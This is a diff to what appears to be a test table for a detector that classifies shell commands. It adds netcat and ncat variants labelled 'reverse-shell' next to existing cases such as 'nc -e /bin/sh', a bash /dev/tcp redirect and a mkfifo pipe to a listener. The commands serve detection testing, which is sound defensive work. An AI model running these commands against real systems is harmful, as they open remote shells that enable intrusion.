@@ -241,6 +241,12 @@ const cases: [string, string | null][] = [
   ["nc -l 4444", "reverse-shell"],
   ["nc -lvnp 4444", "reverse-shell"],
   ["nc -e /bin/sh 10.0.0.1 4444", "reverse-shell"],
+  // each letter of the flag table on its own (-l, -e, -c) and in a cluster, and each long form
+  ["nc -c /bin/sh 10.0.0.1 4444", "reverse-shell"],
+  ["nc -vc sh 10.0.0.1 4444", "reverse-shell"],
+  ["ncat --sh-exec 'sh -i' 10.0.0.1 4444", "reverse-shell"],
+  ["ncat --lua-exec x.lua 10.0.0.1 4444", "reverse-shell"],
+  ["netcat --listen 4444", "reverse-shell"],
   ["ncat --exec /bin/bash 10.0.0.1 4444", "reverse-shell"],
   ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"],
   ["rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "reverse-shell"],
